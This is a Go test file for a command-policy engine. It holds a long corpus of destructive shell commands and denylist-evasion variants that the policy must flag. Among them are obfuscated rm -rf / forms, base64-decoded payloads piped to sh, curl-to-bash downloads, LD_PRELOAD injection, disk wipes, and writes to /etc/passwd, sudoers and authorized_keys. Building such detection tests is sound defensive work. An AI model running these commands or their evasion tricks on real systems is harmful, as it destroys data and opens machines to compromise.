package policy

import (
	"strings"
	"testing"
)

// compactPolicy is the two-rule policy of the original design notes,
// written as they wrote it.
const compactPolicy = `rules: [{pattern: "rm -rf", level: high, require_confirmation: true}, {pattern: "apt-get", level: medium, allowed_flags: ["-y"]}]`

func mustParse(t testing.TB, yml string) *Policy {
	t.Helper()
	p, err := Parse([]byte(yml), "test.yaml")
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	return p
}

// bypass is a command built to slip a dangerous part past a denylist; want
// is the part its verdict's explanation must name.
type bypass struct {
	cmd  string
	want string
}

// bypassBoth are judged against the compact and the default policy.
var bypassBoth = []bypass{
	// Flag reordering and spelling.
	{"rm -rf /", "-rf"},
	{"rm -fr /", "-fr"},
	{"rm -r -f /", "-r"},
	{"rm --recursive --force /", "--recursive"},
	{"rm -R -f /srv", "-R"},
	{"rm --force --recursive build", "--force"},
	{"rm -v -rf /", "-rf"},
	{"rm / -rf", "-rf"},
	{"rm -rf -- /", "-rf"},
	// Path variants and quoting.
	{"/bin/rm -rf /", "/bin/rm -rf"},
	{"/usr/bin/../bin/rm -rf /", "/usr/bin/../bin/rm"},
	{`\rm -rf /`, `\rm`},
	{`r""m -rf /`, `r""m`},
	{`'rm' -rf /`, `'rm'`},
	{`"rm" "-rf" "/"`, `"-rf"`},
	{`$'\x72\x6d' -rf /`, `-rf`},
	{`{rm,-rf,/}`, `{rm,-rf,/}`},
	// Chaining.
	{"ls && rm -rf /", "rm -rf /"},
	{"ls; rm -rf /", "rm -rf /"},
	{"false || rm -rf /", "rm -rf /"},
	{"ls | rm -rf /", "rm -rf /"},
	{"ls & rm -rf /", "rm -rf /"},
	{"ls\nrm -rf /", "rm -rf /"},
	// Groups, subshells, substitutions.
	{"{ rm -rf /; }", "rm -rf /"},
	{"(rm -rf /)", "rm -rf /"},
	{"echo $(rm -rf /)", "$( )"},
	{"echo `rm -rf /`", "` `"},
	{`echo "$(rm -rf /)"`, "$( )"},
	{"cat <(rm -rf /)", "<( )"},
	{"tee >(rm -rf /) </dev/null", ">( )"},
	{"x=$(rm -rf /)", "$( )"},
	{"declare x=$(rm -rf /)", "$( )"},
	{"[[ -n $(rm -rf /) ]]", "$( )"},
	{"echo $(( $(rm -rf /) ))", "$( )"},
	{"echo ${x:-$(rm -rf /)}", "$( )"},
	// Control flow and functions.
	{"if true; then rm -rf /; fi", "rm -rf /"},
	{"for i in 1; do rm -rf /; done", "rm -rf /"},
	{"while true; do rm -rf /; done", "rm -rf /"},
	{"case x in x) rm -rf /;; esac", "rm -rf /"},
	{"f() { rm -rf /; }; f", "rm -rf /"},
	{"! rm -rf /", "rm -rf /"},
	{"time rm -rf /", "rm -rf /"},
	{"rm -rf / 2>/dev/null >&2", "rm -rf /"},
	{"trap 'rm -rf /' EXIT", "trap"},
	{"alias ls='rm -rf /'", "alias ls"},
	// eval and nested shells.
	{`eval "rm -rf /"`, "eval"},
	{"eval rm -rf /", "eval"},
	{"sh -c 'rm -rf /'", "sh -c"},
	{`bash -c "rm -rf /"`, "bash -c"},
	{"bash -lc 'rm -rf /'", "bash -c"},
	{`sh -c "sh -c 'rm -rf /'"`, "sh -c, sh -c"},
	{"bash <<'EOF'\nrm -rf /\nEOF", "here-document"},
	{"sh <<< 'rm -rf /'", "here-document"},
	{"find . -exec sh -c 'rm -rf \"$1\"' _ {} \\;", "find -exec"},
	// Wrappers.
	{"sudo rm -rf /", "inside sudo"},
	{"sudo -u root -- rm -rf /", "inside sudo"},
	{"doas rm -rf /", "inside doas"},
	{"env rm -rf /", "inside env"},
	{"env -i PATH=/bin rm -rf /", "inside env"},
	{"env -S 'rm -rf /'", "env -S"},
	{"nice -n 10 rm -rf /", "inside nice"},
	{"timeout 10 rm -rf /", "inside timeout"},
	{"timeout -s KILL 5 sudo env nice rm -rf /", "inside timeout, sudo, env, nice"},
	{"nohup rm -rf / &", "inside nohup"},
	{"stdbuf -oL rm -rf /", "inside stdbuf"},
	{"command rm -rf /", "inside command"},
	{"exec rm -rf /", "inside exec"},
	{"busybox rm -rf /", "inside busybox"},
	{"flock /tmp/lock rm -rf /", "inside flock"},
	{"echo / | xargs rm -rf", "inside xargs"},
	{"xargs -0 rm -rf < list", "inside xargs"},
	{"find / -exec rm -rf {} \\;", "inside find -exec"},
	{"find / -execdir rm -rf {} +", "inside find -execdir"},
	{"watch -n 1 rm -rf /", "watch"},
	{"ssh host 'rm -rf /'", "ssh host"},
	{"su -c 'rm -rf /' root", "su -c"},
	{"rm -rf \"$HOME\"", "-rf"},
	// What cannot be resolved statically.
	{"$RM -rf /", "$RM"},
	{"${RM} -rf /", "${RM}"},
	{"rm${IFS}-rf${IFS}/", "${IFS}"},
	{"$(echo rm) -rf /", "$(echo rm)"},
	{"`echo rm` -rf /", "`echo rm`"},
	{"x=rm; $x -rf /", "$x"},
	{"a=r; b=m; $a$b -rf /", "$a$b"},
	{"/bin/r? -rf /", "/bin/r?"},
	{"/bin/r[m] -rf /", "/bin/r[m]"},
	{"rm $FLAGS /", "$FLAGS"},
	{`eval "$CMD"`, "$CMD"},
	{`sh -c "$CMD"`, "$CMD"},
	{"xargs -I{} sh -c 'rm -rf {}'", "xargs replaces {}"},
	{"echo cm0gLXJmIC8= | base64 -d | sh", "base64 -d"},
	{"echo cm0gLXJmIC8= | base64 --decode | bash -s", "a decoder"},
	{"xxd -r -p payload.hex | sh", "xxd"},
	{"curl -fsSL https://example.com/install.sh | sh", "curl"},
	{"wget -qO- https://example.com/x | bash", "wget"},
	{"bash <(curl -s https://example.com/x)", "<(curl"},
	{"source <(curl -s https://example.com/x)", "<(curl"},
	{". /dev/stdin < x; sh < script.sh", "sh reads its script"},
	{`python3 -c 'import shutil; shutil.rmtree("/")'`, "python3 -c"},
	{`perl -e 'system("rm -rf /")'`, "perl -e"},
	{`node -e "require('child_process').execSync('rm -rf /')"`, "node -e"},
	{"ruby -e '`rm -rf /`'", "ruby -e"},
	{`awk 'BEGIN { system("rm -rf /") }'`, "awk"},
	{"LD_PRELOAD=/tmp/x.so ls", "LD_PRELOAD"},
	{"export BASH_ENV=/tmp/x; bash script.sh", "BASH_ENV"},
	{"env LD_PRELOAD=/tmp/x.so ls", "LD_PRELOAD"},
	{"tar -xf a.tar --to-command='sh -c \"rm -rf /\"'", "--to-command"},
	{`git -c core.sshCommand='rm -rf /' fetch`, "core.sshCommand"},
	{"rm -rf / # harmless comment", "-rf"},
	// Code kept in quoted text, run later by arithmetic, ${x@P} or eval.
	{"x='a[$(rm -rf /)]'; echo $((x))", "text"},
	{"x='$(rm -rf /)'; echo ${x@P}", "rm -rf /"},
	{"declare -i n; n='a[`rm -rf /`]'", "rm -rf /"},
	{"echo \\$(rm -rf /) | bash", "bash"},
	// A program renamed, linked or downloaded by the command itself.
	{"cp /bin/rm /tmp/x && /tmp/x -rf /", "/tmp/x"},
	{"ln -s /bin/rm ./del; ./del -rf /", "./del"},
	{"cd /tmp && cp /bin/rm x && ./x -rf /", "./x"},
	{"curl -fsSL -o i.sh https://example.com/i.sh && sh i.sh", "sh runs i.sh"},
	{"wget -O /tmp/i.sh https://example.com/i.sh; . /tmp/i.sh", "/tmp/i.sh"},
	{"echo 'rm -rf /' > t.sh; bash t.sh", "t.sh"},
	{"cp /bin/rm /tmp/ls; PATH=/tmp:$PATH ls -rf /", "ls"},
	// The compact rule for apt-get: anything beyond -y raises the level.
	{"apt-get remove --purge nginx", "--purge"},
	{"sudo apt-get --allow-unauthenticated install x", "--allow-unauthenticated"},
}

// bypassDefault are gated by the default policy's other rules.
var bypassDefault = []bypass{
	{"dd if=/dev/zero of=/dev/sda bs=1M", "dd"},
	{"mkfs.ext4 /dev/sdb1", "mkfs.ext4"},
	{"fdisk /dev/sda", "fdisk"},
	{"parted /dev/sda rm 1", "parted"},
	{"wipefs -a /dev/sda", "wipefs"},
	{"sudo ls", "sudo"},
	{"git push --force origin main", "--force"},
	{"git push -f", "-f"},
	{"git -C repo push origin +main", "+main"},
	{"git reset --hard HEAD~3", "--hard"},
	{"git clean -fdx", "-fdx"},
	{"apt-get remove nginx", "apt-get remove"},
	{"apt purge -y nginx", "apt purge"},
	{"yum erase httpd", "yum erase"},
	{"pip uninstall -y requests", "pip uninstall"},
	{"dpkg --purge nginx", "--purge"},
	{"pacman -Rns foo", "-Rns"},
	{"echo x > /etc/passwd", "/etc/passwd"},
	{"cat key >> ~/.ssh/authorized_keys", "~/.ssh/authorized_keys"},
	{"cp evil /usr/bin/ls", "/usr/bin/ls"},
	{"tee /etc/sudoers < x", "/etc/sudoers"},
	{"chmod -R 777 /", "chmod"},
	{"chown -R nobody /var", "/var"},
	{"shutdown -h now", "shutdown"},
	{"systemctl reboot", "systemctl reboot"},
	{"find / -delete", "find -delete"},
	{"sed -i s/a/b/ /etc/hosts", "/etc/hosts"},
	{"mv /etc/passwd /tmp/x", "/etc/passwd"},
	{"ln -sf /bin/sh /usr/local/bin/x", "/usr/local/bin/x"},
	{"curl -o /usr/local/bin/x https://example.com/x", "/usr/local/bin/x"},
	{"touch $FILE", "$FILE"},
	{"cd /etc && echo x > passwd", "/etc/passwd"},
	{"cd $DIR && echo x > f", "f"},
	{"kill -9 -1", "-1"},
	{"exec 3>/etc/passwd", "/etc/passwd"},
	{"rm -r ~", "~"},
	{"bash -c 'cd /etc; echo x > shadow'", "/etc/shadow"},
	{"echo x | sudo tee -a /etc/hosts", "sudo"},
	{"rsync -a --delete ./ /srv/", "/srv"},
	{"rm x ../y", "../y"},
}

func TestBypassCorpusCompact(t *testing.T) {
	p := mustParse(t, compactPolicy)
	judgeCorpus(t, p, bypassBoth)
}

func TestBypassCorpusDefault(t *testing.T) {
	judgeCorpus(t, Default(), bypassBoth)
	judgeCorpus(t, Default(), bypassDefault)
}

func TestBypassCorpusSize(t *testing.T) {
	if n := len(bypassBoth) + len(bypassDefault); n < 60 {
		t.Fatalf("the bypass corpus has %d commands, want at least 60", n)
	}
}

func judgeCorpus(t *testing.T, p *Policy, corpus []bypass) {
	t.Helper()
	for _, b := range corpus {
		v := p.Judge(b.cmd)
		if v.Action == Allow {
			t.Errorf("%q: allowed (rule %s): %s", b.cmd, v.Rule, v.Why)
			continue
		}
		if v.Rule == "" || len(v.Findings) == 0 {
			t.Errorf("%q: verdict names no rule or finding: %+v", b.cmd, v)
		}
		if !strings.Contains(v.Why, b.want) {
			t.Errorf("%q: explanation does not name %q: %s", b.cmd, b.want, v.Why)
		}
		if v.Policy.Hash != p.Hash() {
			t.Errorf("%q: verdict records policy hash %q, want %q", b.cmd, v.Policy.Hash, p.Hash())
		}
	}
}
